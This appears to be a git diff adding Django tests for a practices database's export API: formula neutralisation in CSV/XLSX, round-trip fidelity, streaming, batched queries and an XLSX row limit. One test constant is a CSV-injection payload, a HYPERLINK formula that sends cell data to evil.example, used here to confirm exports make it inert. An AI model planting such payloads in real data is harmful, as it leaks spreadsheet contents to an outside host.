@@ -3,6 +3,7 @@ round-trips."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -205,7 +206,7 @@ def test_xlsx_export_has_every_row(tmp_path: Path) -> None:
 def test_export_api_shows_only_what_the_reader_may_see(client: object, tmp_path: Path) -> None:
     call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(ROWS))))
     response = client.get("/api/v1/items/export", {"format": "jsonl"})  # type: ignore[attr-defined]
-    titles = [json.loads(line)["title"] for line in response.content.decode().splitlines()]
+    titles = [json.loads(line)["title"] for line in _body(response).decode().splitlines()]
     assert titles == ["Waste bank"]
     assert client.get("/api/v1/items/export", {"format": "pdf"}).status_code == 400  # type: ignore[attr-defined]
 
@@ -302,3 +303,108 @@ def test_a_nul_character_is_refused_before_it_reaches_the_database(
         _write(tmp_path, "p.jsonl", _jsonl([{**ROWS[0], "title": "Waste\x00bank"}])), capsys
     )
     assert ":1: contains a NUL character" in err
+
+
+EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+def _import(tmp_path: Path, rows: list[dict]) -> None:
+    call_command("import", "practices", str(_write(tmp_path, "p.jsonl", _jsonl(rows))))
+
+
+def _body(response: object) -> bytes:
+    assert response.status_code == 200  # type: ignore[attr-defined]
+    return b"".join(response.streaming_content)  # type: ignore[attr-defined]
+
+
+def test_public_csv_and_xlsx_exports_make_formulas_inert(client: object, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    _import(tmp_path, [{**ROWS[0], "title": EVIL, "summary": "@SUM(A1:A9)"}])
+    rows = list(
+        csv.reader(io.StringIO(_body(client.get("/api/v1/items/export?format=csv")).decode()))
+    )  # type: ignore[attr-defined]
+    assert (rows[1][2], rows[1][3]) == ("'" + EVIL, "'@SUM(A1:A9)")
+    response = client.get("/api/v1/items/export?format=xlsx")  # type: ignore[attr-defined]
+    sheet = load_workbook(io.BytesIO(_body(response))).active
+    title, summary = list(sheet.iter_rows(min_row=2))[0][2:4]
+    assert title.data_type != "f" and title.value == "'" + EVIL
+    assert summary.data_type != "f" and summary.value == "'@SUM(A1:A9)"
+
+
+def test_formula_like_text_survives_an_export_and_import_round_trip(tmp_path: Path) -> None:
+    rows = [{**ROWS[0], "title": EVIL, "body": "- first\n- second", "lessons": "'=kept"}]
+    _import(tmp_path, rows)
+    first = _export("csv", tmp_path)
+    assert list(csv.reader(io.StringIO(first.decode())))[1][2] == "'" + EVIL
+    Item.objects.all().delete()
+    path = tmp_path / "again.csv"
+    path.write_bytes(first)
+    call_command("import", "practices", str(path))
+    item = Item.objects.get()
+    assert (item.title, item.body, item.lessons) == (EVIL, "- first\n- second", "'=kept")
+    assert _export("csv", tmp_path) == first
+
+
+GOLDEN_JSONL = (
+    '{"external_id": "key:4e4f8a63cdeba2296ab8530de72f4ed8", "type": "practice", "title": "Waste bank", '
+    '"summary": "Savings from sorted waste.", "body": "- first\\n- second, with \\"quotes\\"\\n\\n=not a formula here", '
+    '"language": "en", "city": "Surabaya", "country": "ID", "network": "", "themes": ["waste"], '
+    '"sdg_targets": ["12.5"], "hazards": ["flood"], "status": "published", "period_start": null, '
+    '"period_end": null, "cost_band": "", "barriers": "", "enabling_factors": "", "lessons": "", '
+    '"results": [{"indicator": "Landfill", "unit": "t/day", "baseline": "1500", "target": "1200", '
+    '"achieved": "1250.5"}]}\n'
+)
+# What the export wrote before it was streamed, but for the apostrophe now in front of the
+# body, which begins with "-".
+GOLDEN_CSV = (
+    "external_id,type,title,summary,body,language,city,country,network,themes,sdg_targets,hazards,"
+    "status,period_start,period_end,cost_band,barriers,enabling_factors,lessons,results\r\n"
+    "key:4e4f8a63cdeba2296ab8530de72f4ed8,practice,Waste bank,Savings from sorted waste.,\"'- first\n"
+    '- second, with ""quotes""\n\n=not a formula here",en,Surabaya,ID,,waste,12.5,flood,published,,,,,,,'
+    '"[{""indicator"": ""Landfill"", ""unit"": ""t/day"", ""baseline"": ""1500"", ""target"": ""1200"", '
+    '""achieved"": ""1250.5""}]"\r\n'
+)
+
+
+@pytest.mark.parametrize(("fmt", "golden"), [("jsonl", GOLDEN_JSONL), ("csv", GOLDEN_CSV)])
+def test_public_export_is_streamed_and_its_content_unchanged(
+    client: object, tmp_path: Path, fmt: str, golden: str
+) -> None:
+    body = '- first\n- second, with "quotes"\n\n=not a formula here'
+    _import(tmp_path, [{**ROWS[0], "body": body, "hazards": ["flood"]}, *ROWS[1:]])
+    response = client.get("/api/v1/items/export", {"format": fmt})  # type: ignore[attr-defined]
+    assert response.streaming
+    assert response["Content-Disposition"] == f'attachment; filename="ponte-practices.{fmt}"'
+    assert _body(response).decode() == golden  # the drafts stay out
+
+
+def test_export_reads_the_items_while_it_is_sent_a_batch_at_a_time(
+    client: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    _import(tmp_path, [{**row, "status": "published"} for row in ROWS])
+    monkeypatch.setattr(transfer, "EXPORT_BATCH", 2)
+    response = client.get("/api/v1/items/export", {"format": "csv"})  # type: ignore[attr-defined]
+    with CaptureQueriesContext(connection) as queries:
+        rows = list(csv.reader(io.StringIO(_body(response).decode())))
+    assert len(rows) == 4
+    sql = [query["sql"] for query in queries]
+    # The items are read only as the response is sent, and their themes two items at a time.
+    assert any('FROM "knowledge_item"' in statement for statement in sql)
+    assert len([s for s in sql if 'FROM "directory_theme"' in s]) == 2
+
+
+def test_xlsx_export_is_refused_past_its_row_limit(
+    client: object, tmp_path: Path, settings: object
+) -> None:
+    _import(tmp_path, [{**row, "status": "published"} for row in ROWS])
+    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 2  # type: ignore[attr-defined]
+    response = client.get("/api/v1/items/export", {"format": "xlsx"})  # type: ignore[attr-defined]
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/problem+json"
+    assert "at most 2 rows and this one would have 3" in response.json()["detail"]
+    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 3  # type: ignore[attr-defined]
+    assert client.get("/api/v1/items/export", {"format": "xlsx"}).status_code == 200  # type: ignore[attr-defined]
